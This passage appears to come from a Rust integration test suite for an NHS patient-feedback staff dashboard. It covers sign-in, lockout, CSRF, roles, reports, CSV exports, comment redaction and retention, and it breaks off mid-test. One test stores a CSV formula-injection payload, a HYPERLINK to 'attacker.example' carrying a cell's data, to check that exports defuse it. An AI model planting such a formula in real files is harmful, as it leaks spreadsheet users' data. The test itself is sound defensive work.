//! Staff dashboard tests: sign-in, wrong password, lockout, CSRF, roles, every report on seeded
//! data (checked against the core's own aggregates), both exports (parsed as CSV), tags and a
//! retention run. Each runs on SQLite and, when `CHORUS_TEST_POSTGRES_URL` is set, on
//! PostgreSQL (a fresh schema per test), like `tests/api.rs`.

use std::{collections::BTreeMap, sync::Arc};

use axum::{
    Router,
    http::{StatusCode, header},
};
use chorus_core::{
    ScoreReport,
    aggregate::{InstrumentAggregate, Pub},
};
use chorus_server::{AppState, Paths, dashboard, router, store::Store, users};
use serde_json::json;
use sqlx::Row;

mod common;

use common::{Backend, PASSWORD, TestDb, client::Client, rand_suffix, signed_in};

async fn app_on(backend: Backend) -> Option<(Router, Arc<AppState>, TestDb)> {
    common::app_with(backend, "dash", |config| {
        // An early lock, so the lockout test takes moments.
        config.dashboard.lock_after = 3;
        config.sites.push(common::other_site(&[]));
    })
    .await
}

on_both!(
    2;
    signing_in_sets_a_strict_session_cookie_and_signing_out_ends_it,
    a_wrong_password_is_refused_and_audited,
    repeated_failures_lock_the_account,
    forms_without_the_right_csrf_token_change_nothing,
    roles_limit_what_staff_can_see_and_do,
    bad_filters_get_a_clear_error,
    reports_show_the_cores_figures_on_seeded_data,
    the_fft_page_has_a_process_chart_of_monthly_positive,
    every_export_defuses_spreadsheet_formulas,
    exports_parse_as_csv_and_match_the_stored_responses,
    comments_are_redacted_and_can_be_tagged,
    a_retention_run_deletes_old_responses_and_is_audited,
    reports_and_exports_read_more_than_one_page,
    configuration_changes_are_audited,
    the_fft_return_counts_each_mode_of_collection,
    paper_cards_are_keyed_once_tallied_undone_and_audited,
    equality_gaps_are_the_cores_and_characteristics_stay_apart,
);

async fn audit_actions(state: &AppState) -> Vec<(String, String, String)> {
    common::rows(
        &state,
        "SELECT actor, action, detail FROM audit_log ORDER BY id",
        &[],
    )
    .await
}

/// The action of every audit entry, oldest first.
async fn actions(state: &AppState) -> Vec<String> {
    common::column(state, "SELECT action FROM audit_log ORDER BY id", &[]).await
}

/// The demo site's FFT return for `month`, as the signed-in `c` downloads it.
async fn fft_return_csv(c: &mut Client, month: &str) -> String {
    let uri = format!("/dashboard/exports/fft-return.csv?site=demo&month={month}");
    c.get(&uri).await.want(StatusCode::OK).body
}

/// Who made each audit entry of `action`, oldest first.
async fn actors(state: &AppState, action: &str) -> Vec<String> {
    let sql = "SELECT actor FROM audit_log WHERE action = $1 ORDER BY id";
    common::column(state, sql, &[action.into()]).await
}

/// The detail of each audit entry of `action`, oldest first.
async fn details(state: &AppState, action: &str) -> Vec<String> {
    let sql = "SELECT detail FROM audit_log WHERE action = $1 ORDER BY id";
    common::column(state, sql, &[action.into()]).await
}

async fn seed(state: &Arc<AppState>) {
    let opts = dashboard::seed::SeedOptions {
        site: "demo".into(),
        months: 3,
        per_month: 70,
        seed: 42,
        now: dashboard::now_secs(),
    };
    let r = dashboard::seed::seed(state, &opts, |_, _| {})
        .await
        .unwrap();
    assert_eq!(r.created, 210);
    // Deterministic keys: a second run stores nothing new.
    let again = dashboard::seed::seed(state, &opts, |_, _| {})
        .await
        .unwrap();
    assert_eq!((again.created, again.replayed), (0, 210));
    assert_eq!(state.store.count().await.unwrap(), 210);
}

/// (id, service, instrument, received_at, scores) of a stored response.
type Stored = (i64, Option<String>, String, String, ScoreReport);

/// Every stored response.
async fn stored(state: &AppState) -> Vec<Stored> {
    sqlx::query("SELECT id, service, instrument, received_at, scores FROM responses ORDER BY id")
        .fetch_all(state.store.pool())
        .await
        .unwrap()
        .iter()
        .map(|r| {
            (
                r.get(0),
                r.get(1),
                r.get(2),
                r.get(3),
                serde_json::from_str(&r.get::<String, _>(4)).unwrap(),
            )
        })
        .collect()
}

fn aggregate_of<'a>(reports: impl Iterator<Item = &'a ScoreReport>) -> InstrumentAggregate {
    let mut a = InstrumentAggregate::default();
    for r in reports {
        a.add(r);
    }
    a
}

/// How a published figure starts on the page: its display value, or `*`.
fn shown<T>(p: &Pub<T>, display: impl Fn(&T) -> String) -> String {
    match p {
        Pub::Value(v) => display(v),
        Pub::Suppressed => "<span title=\"Suppressed: fewer than 5\">*".into(),
    }
}

fn assert_accessible_chart(body: &str, id: &str) {
    let at = body
        .find(&format!("<svg id=\"{id}\""))
        .unwrap_or_else(|| panic!("no chart {id}"));
    let svg = &body[at..at + body[at..].find("</svg>").unwrap()];
    assert!(svg.contains("role=\"img\""), "{svg}");
    assert!(
        svg.contains(&format!("aria-labelledby=\"{id}-title {id}-desc\"")),
        "{svg}"
    );
    assert!(svg.contains(&format!("<title id=\"{id}-title\">")), "{svg}");
    assert!(svg.contains(&format!("<desc id=\"{id}-desc\">")), "{svg}");
}

async fn signing_in_sets_a_strict_session_cookie_and_signing_out_ends_it(
    app: Router,
    state: Arc<AppState>,
) {
    // Not signed in: every page sends you to sign in.
    let mut anon = Client::new(&app);
    let p = anon.get("/dashboard/fft").await;
    assert_eq!(p.status, StatusCode::SEE_OTHER);
    assert_eq!(p.location(), "/dashboard/login");

    users::add(
        &state.store,
        "Admin@Trust.nhs.uk",
        PASSWORD,
        "demo",
        "admin",
    )
    .await
    .unwrap();
    let mut c = Client::new(&app);
    let login = c.get("/dashboard/login").await;
    assert!(login.body.contains("<label for=\"email\">"));
    let csp = login.headers[header::CONTENT_SECURITY_POLICY]
        .to_str()
        .unwrap();
    assert!(csp.contains("default-src 'none'") && !csp.contains("script-src"));
    let p = c
        .post(
            "/dashboard/login",
            &[
                ("csrf", &login.csrf()),
                ("email", "admin@trust.nhs.uk"),
                ("password", PASSWORD),
            ],
        )
        .await;
    assert_eq!(p.status, StatusCode::SEE_OTHER, "{}", p.body);
    assert_eq!(p.location(), "/dashboard");
    let cookie = p.set_cookie("chorus_session");
    assert!(
        cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"),
        "{cookie}"
    );
    // The token is 256 bits, and only its hash is stored.
    let token = cookie["chorus_session=".len()..cookie.find(';').unwrap()].to_string();
    assert_eq!(token.len(), 64);
    let hashes: Vec<String> = common::column(&state, "SELECT token_hash FROM sessions", &[]).await;
    assert_eq!(hashes.len(), 1);
    assert_ne!(hashes[0], token);

    assert_eq!(c.get("/dashboard/").await.location(), "/dashboard");
    let home = c.get("/dashboard").await;
    assert_eq!(home.status, StatusCode::OK);
    assert!(home.body.contains("Signed in as admin@trust.nhs.uk"));
    assert_eq!(home.headers[header::CACHE_CONTROL], "no-store");

    // Signing out ends the session on the server, not only in the browser.
    let csrf = home.csrf();
    c.form("/dashboard/logout", &csrf, &[])
        .await
        .want(StatusCode::SEE_OTHER);
    let mut replay = Client::new(&app);
    replay.cookies.insert("chorus_session".into(), token);
    assert_eq!(replay.get("/dashboard").await.status, StatusCode::SEE_OTHER);
    let actions: Vec<String> = actions(&state).await;
    assert_eq!(actions, ["sign_in", "sign_out"]);

    // Behind TLS: Secure and the __Host- prefix.
    let mut config = state.config.clone();
    config.dashboard.secure_cookies = Some(true);
    let store = Store::open(&format!(
        "sqlite://{}",
        std::env::temp_dir()
            .join(format!("chorus-dash-tls-{}", rand_suffix()))
            .join("t.db")
            .display()
    ))
    .await
    .unwrap();
    users::add(&store, "tls@trust.nhs.uk", PASSWORD, "demo", "viewer")
        .await
        .unwrap();
    let tls = router(
        Arc::new(AppState::new(store, config)),
        Paths {
            pkg_dir: "pkg".into(),
            www_dir: "www".into(),
        },
    );
    let mut t = Client::new(&tls);
    let p = t.sign_in("tls@trust.nhs.uk", PASSWORD).await;
    let cookie = p.set_cookie("__Host-chorus_session");
    assert!(
        cookie.contains("; Secure") && cookie.contains("Path=/;"),
        "{cookie}"
    );
    assert_eq!(t.get("/dashboard").await.status, StatusCode::OK);
}

async fn a_wrong_password_is_refused_and_audited(app: Router, state: Arc<AppState>) {
    users::add(&state.store, "a@trust.nhs.uk", PASSWORD, "demo", "admin")
        .await
        .unwrap();
    let mut c = Client::new(&app);
    let p = c.sign_in("a@trust.nhs.uk", "not the password").await;
    assert_eq!(p.status, StatusCode::UNAUTHORIZED);
    assert!(
        p.body
            .contains("The email address or password is not right")
    );
    assert!(p.body.contains("There is a problem"));
    assert!(!c.cookies.contains_key("chorus_session"));
    // An unknown account reads the same.
    let p = c.sign_in("nobody@trust.nhs.uk", PASSWORD).await;
    assert_eq!(p.status, StatusCode::UNAUTHORIZED);
    assert!(
        p.body
            .contains("The email address or password is not right")
    );
    // Empty fields are a clear error, not a failure count.
    let p = c.sign_in("", "").await;
    assert_eq!(p.status, StatusCode::BAD_REQUEST);
    assert!(p.body.contains("Enter your email address and password"));
    let failed: Vec<_> = actors(&state, "sign_in_failed").await;
    // What was typed for an unknown account is not stored, only a short hash of it.
    assert_eq!(failed.len(), 2, "{failed:?}");
    assert_eq!(failed[0], "a@trust.nhs.uk");
    assert!(failed[1].starts_with("unknown account #"), "{failed:?}");
    assert!(
        !audit_actions(&state)
            .await
            .iter()
            .any(|a| format!("{a:?}").contains("nobody"))
    );
}

async fn repeated_failures_lock_the_account(app: Router, state: Arc<AppState>) {
    users::add(&state.store, "l@trust.nhs.uk", PASSWORD, "demo", "analyst")
        .await
        .unwrap();
    let mut c = Client::new(&app);
    for i in 1..=3 {
        let p = c.sign_in("l@trust.nhs.uk", "wrong guess").await;
        assert_eq!(p.status, StatusCode::UNAUTHORIZED, "attempt {i}");
        assert_eq!(
            p.body.contains("Too many failed sign-ins"),
            i == 3,
            "attempt {i}"
        );
    }
    // Locked: even the right password is refused, with a Retry-After.
    let p = c.sign_in("l@trust.nhs.uk", PASSWORD).await;
    assert_eq!(p.status, StatusCode::TOO_MANY_REQUESTS);
    assert!(p.headers.contains_key(header::RETRY_AFTER));
    assert!(!c.cookies.contains_key("chorus_session"));
    let actions: Vec<String> = actions(&state).await;
    assert_eq!(actions.iter().filter(|a| *a == "account_locked").count(), 1);
    // Another account from elsewhere is not affected...
    users::add(&state.store, "m@trust.nhs.uk", PASSWORD, "demo", "viewer")
        .await
        .unwrap();
    let mut other = Client::new(&app);
    assert_eq!(
        other.sign_in("m@trust.nhs.uk", PASSWORD).await.status,
        StatusCode::SEE_OTHER
    );
    // ...and once the lock has run out, the right password works and clears the count.
    common::exec(
        &state,
        "UPDATE login_failures SET locked_until = $1, last_failure = $1",
        &["2000-01-01T00:00:00.000Z".into()],
    )
    .await;
    assert_eq!(
        c.sign_in("l@trust.nhs.uk", PASSWORD).await.status,
        StatusCode::SEE_OTHER
    );
    let left: i64 = common::value(
        &state,
        "SELECT COUNT(*) FROM login_failures WHERE key LIKE 'account:%'",
        &[],
    )
    .await;
    assert_eq!(left, 0);
}

async fn forms_without_the_right_csrf_token_change_nothing(app: Router, state: Arc<AppState>) {
    users::add(&state.store, "c@trust.nhs.uk", PASSWORD, "demo", "admin")
        .await
        .unwrap();
    // Sign-in without the double-submit cookie's value.
    let mut c = Client::new(&app);
    c.get("/dashboard/login").await;
    let p = c
        .form(
            "/dashboard/login",
            "0000",
            &[("email", "c@trust.nhs.uk"), ("password", PASSWORD)],
        )
        .await
        .want(StatusCode::FORBIDDEN);
    assert!(p.body.contains("This form has expired"));
    assert!(!c.cookies.contains_key("chorus_session"));

    let mut c = signed_in(&app, &state, "c@trust.nhs.uk", "demo", "admin").await;
    let before = audit_actions(&state).await.len();
    // Sign-out, a tag and a retention run, each without and with a wrong token.
    assert_eq!(
        c.post("/dashboard/logout", &[]).await.status,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        c.post("/dashboard/logout", &[("csrf", "wrong")])
            .await
            .status,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        c.post("/dashboard/retention", &[("csrf", "wrong")])
            .await
            .status,
        StatusCode::FORBIDDEN
    );
    c.form(
        "/dashboard/comments/1/tags",
        "wrong",
        &[("action", "add"), ("tag", "x")],
    )
    .await
    .want(StatusCode::FORBIDDEN);
    // Still signed in, and nothing was done.
    assert_eq!(c.get("/dashboard").await.status, StatusCode::OK);
    assert_eq!(audit_actions(&state).await.len(), before);
}

async fn roles_limit_what_staff_can_see_and_do(app: Router, state: Arc<AppState>) {
    seed(&state).await;
    let mut viewer = signed_in(&app, &state, "v@trust.nhs.uk", "demo", "viewer").await;
    assert_eq!(viewer.get("/dashboard/fft").await.status, StatusCode::OK);
    for denied in [
        "/dashboard/comments",
        "/dashboard/exports",
        "/dashboard/exports/responses.csv",
        "/dashboard/exports/fft-return.csv?site=demo&month=2026-01",
        "/dashboard/audit",
        "/dashboard/fft?site=other",
    ] {
        let p = viewer.get(denied).await;
        assert_eq!(p.status, StatusCode::FORBIDDEN, "{denied}");
        assert!(p.body.contains("You do not have access"), "{denied}");
    }
    let home = viewer.get("/dashboard").await;
    assert!(!home.body.contains("href=\"/dashboard/audit\""));
    let csrf = home.csrf();
    assert_eq!(
        viewer
            .post(
                "/dashboard/comments/1/tags",
                &[("csrf", &csrf), ("action", "add"), ("tag", "x")]
            )
            .await
            .status,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        viewer
            .post("/dashboard/retention", &[("csrf", &csrf)])
            .await
            .status,
        StatusCode::FORBIDDEN
    );

    let mut analyst = signed_in(&app, &state, "an@trust.nhs.uk", "demo", "analyst").await;
    assert_eq!(
        analyst.get("/dashboard/comments").await.status,
        StatusCode::OK
    );
    assert_eq!(
        analyst.get("/dashboard/exports/responses.csv").await.status,
        StatusCode::OK
    );
    assert_eq!(
        analyst.get("/dashboard/audit").await.status,
        StatusCode::FORBIDDEN
    );
    // An admin of another site sees nothing of this one.
    let mut other = signed_in(&app, &state, "o@trust.nhs.uk", "other", "admin").await;
    assert_eq!(
        other.get("/dashboard/fft?site=demo").await.status,
        StatusCode::FORBIDDEN
    );
    let page = other.get("/dashboard/fft").await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.body.contains("No responses match this filter."));
}

async fn bad_filters_get_a_clear_error(app: Router, state: Arc<AppState>) {
    let mut c = signed_in(&app, &state, "f@trust.nhs.uk", "demo", "admin").await;
    let p = c
        .get("/dashboard/fft?from=2026-02-30&to=soon&instrument=sure")
        .await;
    assert_eq!(p.status, StatusCode::BAD_REQUEST);
    for msg in [
        "From date must be a real date",
        "To date must be a real date",
        "There is no instrument &quot;sure&quot; in this report",
    ] {
        assert!(p.body.contains(msg), "{msg}: {}", p.body);
    }
    assert!(p.body.contains("href=\"#from\""));
    let p = c.get("/dashboard/fft?from=2026-03-02&to=2026-03-01").await;
    assert!(
        p.body
            .contains("To date must be the same as or after the from date")
    );
    let p = c
        .get("/dashboard/exports/fft-return.csv?site=demo&month=2026-13")
        .await;
    assert_eq!(p.status, StatusCode::BAD_REQUEST);
    assert!(p.body.contains("Month must be a real month"));
}

/// A stored service name that a spreadsheet would run (from before service ids were checked,
/// or written by another tool) is defused by the dashboard's export and by `chorus export`
/// alike: they share one CSV writer.
async fn every_export_defuses_spreadsheet_formulas(app: Router, state: Arc<AppState>) {
    let evil = "=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")";
    common::exec(&state, "INSERT INTO responses (site, service, instrument, version, locale, idempotency_key, body_hash, answers, scores, received_at) VALUES ('demo', $1, 'fft', 1, 'en', 'formula-key-0001', 'h', '{\"fft\":\"good\"}', '{\"instrument\":\"fft\",\"version\":1}', '2026-11-02T10:00:00.000Z')", &[evil.into()]).await;
    let service_cells = |csv_text: &str| -> Vec<String> {
        let mut r = csv::Reader::from_reader(csv_text.as_bytes());
        let at = r
            .headers()
            .unwrap()
            .iter()
            .position(|h| h == "service")
            .unwrap();
        r.records().map(|x| x.unwrap()[at].to_string()).collect()
    };
    let mut c = signed_in(&app, &state, "csv@trust.nhs.uk", "demo", "analyst").await;
    let p = c.get("/dashboard/exports/responses.csv?site=demo").await;
    assert_eq!(p.status, StatusCode::OK);
    let mut cli = Vec::new();
    chorus_server::offline::export_csv(&state.store, Some("demo"), None, &mut cli)
        .await
        .unwrap();
    for (what, text) in [
        ("dashboard", p.body),
        ("chorus export", String::from_utf8(cli).unwrap()),
    ] {
        let cells = service_cells(&text);
        assert_eq!(cells, vec![format!("'{evil}")], "{what} export");
    }
}

/// The FFT page's SPC section is the core's XmR chart of the published monthly % positive: the
/// same verdict in words, the same limits, one table row per charted month.
async fn the_fft_page_has_a_process_chart_of_monthly_positive(app: Router, state: Arc<AppState>) {
    // Enough responses a month that most months' percentages are published (a month with
    // fewer than 5 negatives, or fewer than 5 that are not positive, shows neither).
    let opts = dashboard::seed::SeedOptions {
        site: "demo".into(),
        months: 6,
        per_month: 200,
        seed: 7,
        now: dashboard::now_secs(),
    };
    dashboard::seed::seed(&state, &opts, |_, _| {})
        .await
        .unwrap();
    let rows = stored(&state).await;
    let fft_rows: Vec<_> = rows
        .iter()
        .filter(|r| state.instruments[&r.2].scoring == chorus_core::Scoring::Fft)
        .collect();
    let months: std::collections::BTreeSet<&str> = fft_rows.iter().map(|r| &r.3[..7]).collect();
    // Published: each month's figures, protected across the months (secondary suppression).
    let per_month: Vec<InstrumentAggregate> = months
        .iter()
        .map(|m| aggregate_of(fft_rows.iter().filter(|r| &r.3[..7] == *m).map(|r| &r.4)))
        .collect();
    let values: Vec<f64> = chorus_core::suppress::fft_rows(&per_month.iter().collect::<Vec<_>>())
        .iter()
        .filter_map(|s| s.positive.value().map(|v| v.percent.value))
        .collect();
    assert!(values.len() >= 2, "the seed has too few months");
    let opts = chorus_core::spc::Options {
        direction: Some(chorus_core::spc::Direction::Higher),
        ..Default::default()
    };
    let chart = chorus_core::spc::xmr(&values, &opts).unwrap();
    let mut c = signed_in(&app, &state, "spc@trust.nhs.uk", "demo", "viewer").await;
    let p = c.get("/dashboard/fft").await;
    assert_eq!(p.status, StatusCode::OK);
    let verdict = &p.body[p.body.find("id=\"spc-variation\"").expect("an SPC verdict")..];
    assert!(
        verdict[..verdict.find("</p>").unwrap()].contains(chart.variation.words(opts.direction)),
        "the verdict is not the core's"
    );
    let one = chorus_core::num::f64_display_1dp;
    assert!(p.body.contains(&format!(
        "process limits {}% to {}%",
        one(chart.lower),
        one(chart.upper)
    )));
    let table = &p.body[p.body.find("id=\"fft-spc-table\"").unwrap()..];
    let table = &table[..table.find("</table>").unwrap()];
    assert_eq!(table.matches("<tr>").count(), values.len() + 1);
    let special = chart.points.iter().filter(|f| f.special()).count();
    assert_eq!(
        table.matches("</td><td>—</td>").count(),
        values.len() - special,
        "rows without a special cause"
    );
    assert_accessible_chart(&p.body, "fft-spc");
}

async fn reports_show_the_cores_figures_on_seeded_data(app: Router, state: Arc<AppState>) {
    seed(&state).await;
    let rows = stored(&state).await;
    let scoring = |id: &str| state.instruments[id].scoring;
    use chorus_core::Scoring::*;
    let mut c = signed_in(&app, &state, "r@trust.nhs.uk", "demo", "viewer").await;

    // FFT: headline figures, one table row per month, services compared.
    let fft = aggregate_of(rows.iter().filter(|r| scoring(&r.2) == Fft).map(|r| &r.4));
    assert!(fft.fft_total() > 50);
    let s = fft.fft_summary();
    let p = c.get("/dashboard/fft").await;
    assert_eq!(p.status, StatusCode::OK);
    let positive = s
        .positive
        .value()
        .expect("enough to publish")
        .percent
        .display
        .clone();
    assert!(
        p.body
            .contains(&format!("id=\"fft-positive\">{positive}% ")),
        "expected {positive}%"
    );
    assert!(p.body.contains(&format!(
        "id=\"fft-negative\">{}",
        shown(&s.negative, |v| format!("{}% ", v.percent.display))
    )));
    let months: std::collections::BTreeSet<&str> = rows
        .iter()
        .filter(|r| scoring(&r.2) == Fft)
        .map(|r| &r.3[..7])
        .collect();
    let table = &p.body[p.body.find("id=\"fft-months\"").unwrap()..];
    let table = &table[..table.find("</table>").unwrap()];
    assert_eq!(table.matches("<tr>").count(), months.len() + 1);
    assert_accessible_chart(&p.body, "fft-trend");
    assert_accessible_chart(&p.body, "fft-services");
    // Narrowed to one service, the figure is that service's.
    let er = aggregate_of(
        rows.iter()
            .filter(|r| scoring(&r.2) == Fft && r.1.as_deref() == Some("emergency"))
            .map(|r| &r.4),
    );
    let p = c.get("/dashboard/fft?service=emergency").await;
    assert!(p.body.contains(&format!(
        "id=\"fft-positive\">{}",
        shown(&er.fft_summary().positive, |v| format!(
            "{}% ",
            v.percent.display
        ))
    )));

    // I Statements: overall, themes with intervals, statements needing attention.
    let ist = aggregate_of(
        rows.iter()
            .filter(|r| scoring(&r.2) == IStatements)
            .map(|r| &r.4),
    );
    let summary = ist.summary().i_statements.expect("I Statement data");
    let p = c.get("/dashboard/i-statements").await;
    assert_eq!(p.status, StatusCode::OK);
    assert!(p.body.contains(&format!(
        "id=\"overall-score\">{}",
        shown(&summary.overall, |m| format!("{} ", m.mean.display))
    )));
    for t in summary.themes.values() {
        assert!(p.body.contains(&shown(&t.score, |m| format!(
            "{} <span class=\"hint\">({} to {})",
            m.mean.display, m.low, m.high
        ))));
    }
    assert_accessible_chart(&p.body, "theme-scores");
    assert!(p.body.contains("id=\"attention\""));

    // Decisions: completions, SURE, CollaboRATE, SDM-Q-9.
    let dec = aggregate_of(
        rows.iter()
            .filter(|r| matches!(scoring(&r.2), Sure | Collaborate | SdmQ9 | DecisionAid))
            .map(|r| &r.4),
    );
    let ds = dec.summary();
    let p = c.get("/dashboard/decisions").await;
    assert_eq!(p.status, StatusCode::OK);
    let sure = ds.sure.as_ref().expect("SURE data");
    assert!(p.body.contains(&format!(
        "id=\"sure-conflict\">{}",
        shown(&sure.conflict, |v| format!("{}% ", v.percent.display))
    )));
    let collaborate = ds.collaborate.as_ref().expect("CollaboRATE data");
    assert!(p.body.contains(&format!(
        "id=\"collaborate-top\">{}",
        shown(&collaborate.top_score, |v| format!(
            "{}% ",
            v.percent.display
        ))
    )));
    assert!(p.body.contains(&format!(
        "id=\"sdm-mean\">{}",
        shown(ds.sdm_q_9.as_ref().expect("SDM-Q-9 data"), |m| format!(
            "{} ",
            m.mean.display
        ))
    )));
    assert_accessible_chart(&p.body, "completions");
    assert_accessible_chart(&p.body, "sure-totals");
}

async fn exports_parse_as_csv_and_match_the_stored_responses(app: Router, state: Arc<AppState>) {
    seed(&state).await;
    let mut c = signed_in(&app, &state, "e@trust.nhs.uk", "demo", "analyst").await;
    let rows = stored(&state).await;

    let p = c
        .get("/dashboard/exports/responses.csv?service=emergency")
        .await;
    assert_eq!(p.status, StatusCode::OK);
    assert!(
        p.headers[header::CONTENT_TYPE]
            .to_str()
            .unwrap()
            .starts_with("text/csv")
    );
    assert!(
        p.headers[header::CONTENT_DISPOSITION]
            .to_str()
            .unwrap()
            .starts_with("attachment")
    );
    let mut r = csv::Reader::from_reader(p.body.as_bytes());
    let head: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(head[..3], ["id", "reference", "received_at"]);
    let recs: Vec<csv::StringRecord> = r.records().map(|x| x.unwrap()).collect();
    let want: Vec<i64> = rows
        .iter()
        .filter(|r| r.1.as_deref() == Some("emergency"))
        .map(|r| r.0)
        .collect();
    let got: Vec<i64> = recs.iter().map(|r| r[0].parse().unwrap()).collect();
    assert_eq!(got, want);
    for rec in &recs {
        assert_eq!(&rec[4], "emergency");
        let _: serde_json::Value = serde_json::from_str(&rec[8]).unwrap();
        let _: ScoreReport = serde_json::from_str(&rec[9]).unwrap();
        assert!(
            chorus_core::mode::Mode::from_code(&rec[10]).is_some(),
            "{rec:?}"
        );
    }

    // The NHS England FFT return for the month with most data.
    let mut per_month: BTreeMap<String, Vec<&Stored>> = BTreeMap::new();
    for r in rows.iter().filter(|r| r.2.starts_with("fft")) {
        per_month.entry(r.3[..7].to_string()).or_default().push(r);
    }
    let (month, in_month) = per_month.iter().max_by_key(|(_, v)| v.len()).unwrap();
    let csv = fft_return_csv(&mut c, month).await;
    let mut r = csv::Reader::from_reader(csv.as_bytes());
    let head: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(head, dashboard::export::RETURN_HEADER);
    let mut total = 0u64;
    let mut seen = 0;
    let mut by_service: BTreeMap<(String, String), Vec<u64>> = BTreeMap::new();
    for rec in r.records() {
        let rec = rec.unwrap();
        assert_eq!(&rec[0], month.as_str());
        assert_eq!(&rec[1], "DEMO1");
        assert_eq!(&rec[2], "DEMO1-01");
        let counts: Vec<u64> = (5..11).map(|i| rec[i].parse().unwrap()).collect();
        let row_total: u64 = rec[11].parse().unwrap();
        assert_eq!(counts.iter().sum::<u64>(), row_total);
        // One row per setting, service and mode: summed over the modes below.
        let sum = by_service
            .entry((rec[3].to_string(), rec[4].to_string()))
            .or_insert_with(|| vec![0u64; 6]);
        for (s, c) in sum.iter_mut().zip(&counts) {
            *s += c;
        }
        total += row_total;
    }
    // Each setting and service's counts, over its modes, are the core's aggregate of them.
    for ((setting, service), counts) in &by_service {
        let want = aggregate_of(
            in_month
                .iter()
                .filter(|r| {
                    dashboard::export::setting(&r.2) == setting && r.1.as_deref() == Some(service)
                })
                .map(|r| &r.4),
        );
        assert_eq!(counts, &want.fft.to_vec(), "{setting} {service}");
        seen += 1;
    }
    assert!(seen >= 3);
    assert_eq!(total, in_month.len() as u64);
    let exports: Vec<String> = actions(&state)
        .await
        .into_iter()
        .filter(|a| a.starts_with("export"))
        .collect();
    assert_eq!(exports, ["export_responses", "export_fft_return"]);
}

async fn comments_are_redacted_and_can_be_tagged(app: Router, state: Arc<AppState>) {
    let post = |key: &str, why: &str| {
        let body = json!({"site": "demo", "service": "ward-7", "response": {
            "instrument": "fft-inpatient", "version": 1, "locale": "en", "idempotency_key": key,
            "answers": {"fft": "poor", "why": why}}});
        let app = app.clone();
        async move {
            let (status, _) = common::post_submission(&app, &body, None).await;
            assert_eq!(status, StatusCode::CREATED);
        }
    };
    post(
        "comment-0001",
        "Call me on 07700 900461 or write to jo@example.com <b>now</b>",
    )
    .await;
    post("comment-0002", "The food was cold").await;
    let mut c = signed_in(&app, &state, "t@trust.nhs.uk", "demo", "analyst").await;
    let page = c.get("/dashboard/comments").await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(
        page.body.contains(
            "Call me on [phone number] or write to [email address] &lt;b&gt;now&lt;/b&gt;"
        )
    );
    assert!(!page.body.contains("07700"));
    assert!(page.body.contains("The food was cold"));
    let id: i64 = common::value(
        &state,
        "SELECT id FROM responses WHERE idempotency_key = $1",
        &["comment-0002".into()],
    )
    .await;
    let csrf = page.csrf();
    let uri = format!("/dashboard/comments/{id}/tags");
    c.form(&uri, &csrf, &[("action", "add"), ("tag", " Food Quality ")])
        .await
        .want(StatusCode::SEE_OTHER);
    // Bad tags are a clear error and change nothing.
    let p = c
        .form(&uri, &csrf, &[("action", "add"), ("tag", "<script>")])
        .await
        .want(StatusCode::BAD_REQUEST);
    assert!(p.body.contains("Enter a tag of 1 to 40 letters"));
    let tagged = c.get("/dashboard/comments?tag=food+quality").await;
    assert!(tagged.body.contains("The food was cold"));
    assert!(!tagged.body.contains("[phone number]"));
    c.form(
        &uri,
        &csrf,
        &[("action", "remove"), ("tag", "food quality")],
    )
    .await
    .want(StatusCode::SEE_OTHER);
    let tagged = c.get("/dashboard/comments?tag=food+quality").await;
    assert!(tagged.body.contains("No comments match this filter."));
    let actions: Vec<String> = actions(&state).await;
    assert!(
        actions.contains(&"tag_added".to_string()) && actions.contains(&"tag_removed".to_string())
    );
}

async fn a_retention_run_deletes_old_responses_and_is_audited(app: Router, state: Arc<AppState>) {
    seed(&state).await;
    // Ten responses made older than the demo site's 730 days; one of them tagged.
    let old: Vec<i64> = stored(&state).await.iter().take(10).map(|r| r.0).collect();
    for id in &old {
        common::exec(
            &state,
            "UPDATE responses SET received_at = $1 WHERE id = $2",
            &["2020-01-01T00:00:00.000Z".into(), (*id).into()],
        )
        .await;
    }
    common::exec(&state, "INSERT INTO comment_tags (response_id, tag, added_at) VALUES ($1, 'old', '2020-01-02T00:00:00.000Z')", &[(old[0]).into()]).await;
    assert_eq!(chorus_server::apply_retention(&state).await, 10);
    assert_eq!(state.store.count().await.unwrap(), 200);
    let tags: i64 = common::value(&state, "SELECT COUNT(*) FROM comment_tags", &[]).await;
    assert_eq!(tags, 0, "tags go with their response");
    let audit = audit_actions(&state).await;
    assert!(audit.contains(&(
        "system".into(),
        "retention".into(),
        "deleted 10 responses older than 730 days".into()
    )));
    // An admin can run it from the dashboard; that run is audited under their name.
    let mut c = signed_in(&app, &state, "ret@trust.nhs.uk", "demo", "admin").await;
    let page = c.get("/dashboard/audit").await;
    assert!(
        page.body
            .contains("deleted 10 responses older than 730 days")
    );
    let p = c
        .post("/dashboard/retention", &[("csrf", &page.csrf())])
        .await;
    assert_eq!(p.status, StatusCode::SEE_OTHER);
    let audit = audit_actions(&state).await;
    assert!(audit.contains(&(
        "ret@trust.nhs.uk".into(),
        "retention".into(),
        "deleted 0 responses older than 730 days".into()
    )));
    assert_eq!(state.store.count().await.unwrap(), 200);
}

async fn reports_and_exports_read_more_than_one_page(app: Router, state: Arc<AppState>) {
    seed(&state).await;
    // 210 seeded responses copied ten times over: more than one page (2,000 rows) to read.
    for copy in 1..=10 {
        common::exec(&state, "INSERT INTO responses (site, service, instrument, version, locale, idempotency_key, body_hash, answers, scores, score_mismatch, received_at)
             SELECT site, service, instrument, version, locale, idempotency_key || $1, body_hash, answers, scores, score_mismatch, received_at
             FROM responses WHERE idempotency_key LIKE 'seed-%' AND idempotency_key NOT LIKE '%-copy-%'", &[(format!("-copy-{copy}")).into()]).await;
    }
    // Rows written behind the store's back are rolled up as an operator would after such
    // a change (`chorus rollup rebuild`); reports read the rollups, exports the rows.
    state.store.rebuild_rollups(None, |_, _| {}).await.unwrap();
    let rows = stored(&state).await;
    assert_eq!(rows.len(), 2310);
    let mut c = signed_in(&app, &state, "p@trust.nhs.uk", "demo", "analyst").await;
    let fft = aggregate_of(rows.iter().filter(|r| r.2.starts_with("fft")).map(|r| &r.4));
    let p = c.get("/dashboard/fft").await;
    assert!(p.body.contains(&format!(
